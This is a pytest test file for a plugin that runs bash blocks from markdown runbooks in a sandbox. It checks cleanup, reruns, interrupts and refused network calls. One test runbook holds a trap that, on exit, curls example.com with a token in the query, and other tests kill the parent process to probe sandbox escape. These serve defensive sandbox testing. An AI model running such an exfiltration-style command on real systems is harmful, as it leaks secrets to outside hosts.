from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from .room import BOOK, Room, trail_book, without_durations


def cleanup(then: str = "", name: str = "tidy") -> str:
    return f"""
## {name}

<!-- runbook: cleanup -->
```bash
echo {name}:$STATE >>"$TRAIL"
{then}
```
"""


def test_after_a_failure_later_steps_are_blocked_and_point_to_the_document(room: Room) -> None:
    room.book(trail_book("one", "two", "three", "four", two="false"))
    run = room.run("-rs")
    assert run.outcomes == {
        "one": "passed",
        "two": "failed",
        "three": "skipped",
        "four": "skipped",
    }
    assert run.reasons == {
        "three": "Skipped: blocked by `two`, line 14",
        "four": "Skipped: blocked by `two`, line 14",
    }
    assert f"SKIPPED [1] {BOOK}:19: blocked by `two`, line 14" in run.out
    assert f"SKIPPED [1] {BOOK}:26: blocked by `two`, line 14" in run.out
    assert room.trail == ["one", "two"]


def test_a_procedure_that_fails_does_not_touch_another(room: Room) -> None:
    room.book(
        trail_book(
            "a",
            "b",
            "c",
            b="false",
            front="""
            ---
            runbook:
              procedures: 2
            ---
            """,
        )
    )
    assert room.run().outcomes == {"a::a": "passed", "b::b": "failed", "c::c": "passed"}


@pytest.mark.parametrize(
    ("breaks", "verdict"),
    [
        ("false", "command failed (exit 1, N s)"),
        ("exit 3", "command failed (exit 3, N s)"),
        ("kill -9 $$", "command failed (the bash session was killed by signal 9, N s)"),
        ("kill -9 $PPID; sleep 1", "tried to leave the emulator (a signal to process "),
        ("kill -9 $PPID; sleep 1 # unfenced", "infrastructure broke ("),
        ("sleep 30", "timed out (killed, N s)"),
        ("set -u; echo $NOT_THERE", "command failed (exit 1, N s)"),
    ],
    ids=lambda value: value.replace(" ", "_"),
)
def test_cleanup_sees_the_state_of_the_last_completed_step(
    room: Room, breaks: str, verdict: str
) -> None:
    names = ["one", "two", "three"]
    book = trail_book(*names, one="export STATE=good", two=f"export STATE=bad\n{breaks}")
    if breaks.startswith("sleep"):
        book = book.replace("## two\n", "## two\n\n<!-- runbook: timeout=300ms -->")
    if breaks.endswith("unfenced"):
        room.ini("runbooks_sandbox = off")
    room.book(book + cleanup())
    run = room.run()
    assert run.outcomes == {
        "one": "passed",
        "two": "failed",
        "three": "skipped",
        "tidy": "passed",
    }
    assert verdict in run.text("two")
    assert room.trail == ["one", "two", "tidy:good"]


@pytest.mark.parametrize(
    "arguments",
    [["-x"], ["--maxfail=1"], ["-k", "one or two"], [f"{BOOK}::two"], ["--sw"]],
    ids=" ".join,
)
def test_cleanup_runs_although_it_is_no_item_of_the_session(
    room: Room, arguments: list[str]
) -> None:
    room.book(trail_book("one", "two", "three", one="export STATE=good", two="false") + cleanup())
    run = room.run(*arguments)
    assert run.outcomes["two"] == "failed"
    assert "tidy" not in run.outcomes
    assert room.trail == ["one", "two", "tidy:good"]
    assert room.left == []


def test_cleanup_runs_once_when_it_is_an_item_and_when_all_is_well(room: Room) -> None:
    room.book(trail_book("one", one="export STATE=good") + cleanup())
    assert room.run().outcomes == {"one": "passed", "tidy": "passed"}
    assert room.trail == ["one", "tidy:good"]


def test_every_cleanup_step_runs_although_one_of_them_fails(room: Room) -> None:
    book = trail_book("one", "two", two="false")
    room.book(book + cleanup("false", name="broken") + cleanup())
    run = room.run()
    assert run.outcomes == {"one": "passed", "two": "failed", "broken": "failed", "tidy": "passed"}


def test_a_failing_cleanup_step_is_red_without_being_an_item(room: Room) -> None:
    room.book(trail_book("one", "two") + cleanup("false"))
    run = room.run("-k", "one")
    assert run.outcomes == {"one": "error"}
    assert run.text("one") == "\n".join(
        [
            f"{BOOK}:22: command failed (exit 1, N s)",
            '    21  echo tidy:$STATE >>"$TRAIL"',
            "  > 22  false",
            "earlier: 1 step passed in N s",
            f"rerun:   pytest {BOOK}::tidy",
        ]
    )
    assert run.code == pytest.ExitCode.TESTS_FAILED


def test_nothing_is_cleaned_up_where_nothing_ran(room: Room) -> None:
    front = """
    ---
    runbook:
      requires: [no-such-tool]
    ---
    """
    room.book(trail_book("one", "two", front=front) + cleanup())
    run = room.run()
    assert run.outcomes == {"one": "failed", "two": "skipped", "tidy": "skipped"}
    assert run.text("one") == "\n".join(
        [
            (
                f"{BOOK}:10: infrastructure broke (needs `no-such-tool`, which is not on the PATH; "
                "install it, or take it out of `requires`, N s)"
            ),
            "later:   1 step blocked",
            f"rerun:   pytest {BOOK}::one",
        ]
    )
    assert room.trail == []


FLAKY = """
if [ -e "$TRAIL.again" ]; then true; else touch "$TRAIL.again"; false; fi
"""


@pytest.mark.parametrize("flaky", ["one", "two", "three"])
def test_reruns_never_make_a_failed_runbook_green_nor_run_commands_again(
    room: Room, flaky: str
) -> None:
    names = ["one", "two", "three"]
    room.book(trail_book(*names, **{flaky: FLAKY}))
    run = room.run("--reruns=2")
    assert run.outcomes[flaky] == "failed"
    assert "2 rerun" in run.out
    assert run.code == pytest.ExitCode.TESTS_FAILED
    assert room.trail == names[: names.index(flaky) + 1]


def test_reruns_of_one_of_several_procedures_leave_the_others_alone(room: Room) -> None:
    front = """
    ---
    runbook:
      procedures: 2
    ---
    """
    room.book(trail_book("one", "two", "three", two=FLAKY, front=front))
    run = room.run("--reruns=2")
    assert run.outcomes == {"one::one": "passed", "two::two": "failed", "three::three": "passed"}
    assert room.trail == ["one", "two", "three"]


def test_reruns_of_a_step_whose_unselected_predecessor_failed_stay_red(room: Room) -> None:
    room.book(trail_book("one", "two", one=FLAKY) + cleanup())
    run = room.run("--reruns=2", "-k", "two")
    assert run.outcomes == {"two": "failed"}
    assert "earlier" not in [str(one.longrepr) for one in run.reports if one.failed][-1]
    assert room.trail == ["one", "tidy:"]


def test_reruns_of_a_failing_cleanup_stay_red_and_run_nothing_again(room: Room) -> None:
    room.book(trail_book("one", "two") + cleanup(FLAKY))
    run = room.run("--reruns=2", "-k", "one or two")
    assert run.outcomes == {"one": "passed", "two": "error"}
    assert run.code == pytest.ExitCode.TESTS_FAILED
    assert room.trail == ["one", "two", "tidy:"]


def interrupted(room: Room, *arguments: str) -> tuple[int, str]:
    """Run pytest, press Ctrl-C when the step `two` has begun, and give exit code and output."""
    trail = room.path / "trails" / "trail"
    with subprocess.Popen(
        [sys.executable, "-m", "pytest", "-pno:randomly", *arguments],
        cwd=room.path,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        start_new_session=True,
    ) as process:
        deadline = time.monotonic() + 20
        while not (trail.exists() and "two" in trail.read_text()):
            assert time.monotonic() < deadline
            time.sleep(0.02)
        time.sleep(0.1)
        os.killpg(process.pid, signal.SIGINT)  # all in the foreground get it, as on a terminal
        out, _ = process.communicate(timeout=20)
    return process.returncode, without_durations(out)


@pytest.mark.parametrize("arguments", [[], ["-n1"]], ids=["alone", "xdist"])
def test_ctrl_c_cleans_up_and_leaves_no_process_and_no_folder(
    room: Room, arguments: list[str]
) -> None:
    room.book(
        trail_book(
            "one",
            "two",
            "three",
            one='export STATE=good\nsleep 1234 & echo "$! $BASHPID" >"$TRAIL.pids"',
            two='export STATE=bad\nsetsid sleep 1234 & echo $! >>"$TRAIL.pids"\nsleep 1234',
        )
        + cleanup()
    )
    code, out = interrupted(room, *arguments)
    assert code == pytest.ExitCode.INTERRUPTED
    assert "KeyboardInterrupt" in out
    assert room.trail == ["one", "two", "tidy:good"]
    pids = (room.path / "trails" / "trail.pids").read_text().split()
    assert len(pids) == 3
    assert [pid for pid in pids if Path(f"/proc/{pid}").exists()] == []
    assert room.left == []


def test_a_cleanup_that_fails_after_ctrl_c_is_said_at_the_end(room: Room) -> None:
    room.book(trail_book("one", "two", two="sleep infinity") + cleanup("false"))
    code, out = interrupted(room)
    assert code == pytest.ExitCode.INTERRUPTED
    title = "cleanup failed after the run was interrupted"
    said = f"""{BOOK}:22: command failed (exit 1, N s)
    21  echo tidy:$STATE >>"$TRAIL"
  > 22  false
earlier: 1 step passed in N s
rerun:   pytest {BOOK}::tidy
"""
    assert f" {title} " in out
    assert said in out
    assert "Traceback" not in out
    assert "1 passed in " in out


# As pytest-timeout does: an alarm that fails the test from within.
ALARM = """
import signal
import pytest

def out_of_time(number, frame):
    pytest.fail("Timeout of the other plugin")

@pytest.hookimpl(wrapper=True)
def pytest_runtest_call(item):
    before = signal.signal(signal.SIGALRM, out_of_time)
    signal.setitimer(signal.ITIMER_REAL, 0.6)
    try:
        return (yield)
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)
"""


def test_what_another_plugin_interrupts_is_red_is_not_run_again_and_is_cleaned_up(
    room: Room,
) -> None:
    room.conftest(ALARM)
    room.book(
        trail_book("one", "two", "three", one="export STATE=good", two="STATE=bad; sleep infinity")
        + cleanup()
    )
    run = room.run()
    assert run.outcomes == {"one": "passed", "two": "failed", "three": "skipped", "tidy": "passed"}
    assert run.text("two") == "\n".join(
        [
            (
                f"{BOOK}:13: infrastructure broke (interrupted by `Failed`: Timeout of the other "
                "plugin, N s)"
            ),
            "earlier: 1 step passed in N s; 1 later step blocked",
            f"rerun:   pytest {BOOK}::two",
        ]
    )
    assert run.reasons == {"three": "Skipped: blocked by `two`, line 13"}
    assert room.trail == ["one", "two", "tidy:good"]


def test_an_interrupted_first_step_is_cleaned_up_although_cleanup_is_no_item(room: Room) -> None:
    room.conftest(ALARM)
    room.book(trail_book("one", "two", one="sleep infinity") + cleanup())
    assert room.run("-k", "one or two").outcomes == {"one": "failed", "two": "skipped"}
    assert room.trail == ["one", "tidy:"]


def test_a_run_leaves_nothing_behind_and_writes_nothing_beside_the_document(room: Room) -> None:
    room.book(trail_book("one", "two", one="echo x >file; mkdir -p $HOME/a $TMPDIR/b", two="false"))
    before = {str(one) for one in (room.path / "runbooks").rglob("*")}
    run = room.run()
    assert run.outcomes["two"] == "failed"
    assert {str(one) for one in (room.path / "runbooks").rglob("*")} == before
    assert room.left == []


def test_kept_work_directories_are_named_and_hold_what_was_made(room: Room) -> None:
    room.book(trail_book("one", one="echo made >file"))
    run = room.run("--runbooks-keep")
    [folder] = room.left
    assert f"kept: {BOOK} in {folder}\n" in run.out
    assert (folder / "work" / "file").read_text() == "made\n"


def test_what_is_refused_after_the_last_step_makes_the_run_red(room: Room) -> None:
    room.book(
        """
        # Book

        ```bash
        trap 'curl --silent http://example.com/late?token=abcdefgh' EXIT
        ```
        """
    )
    run = room.run("--runbooks-ledger=calls.jsonl")
    assert run.code == 1
    errors = [str(one.longrepr) for one in run.reports if one.when == "teardown" and one.failed]
    assert "\n".join(errors) == (
        "runbooks/book.md:4: tried to leave the emulator (after the last step had ended)\n"
        "refused: GET http://example.com/late\n"
        "  nothing leaves the emulator, and `example.com` is no AWS API host: declare the answer "
        "under `stubs` in the front matter"
    )
    assert "GET http://example.com/late" in (room.path / "calls.jsonl").read_text()


def test_what_is_refused_after_the_last_step_is_in_the_journal_of_a_test(room: Room) -> None:
    room.book(
        """
        # Book

        ```bash
        trap 'curl --silent http://example.com/late' EXIT
        ```
        """
    )
    room.write(
        "test_book.py",
        """
        def test_book(run_runbook):
            journal = run_runbook("runbooks/book.md")
            assert [(str(one.verdict), one.message) for one in journal.failures] == [
                (
                    "tried to leave the emulator",
                    "GET http://example.com/late, after the last step had ended",
                )
            ]
        """,
    )
    assert room.run("test_book.py").code == 0
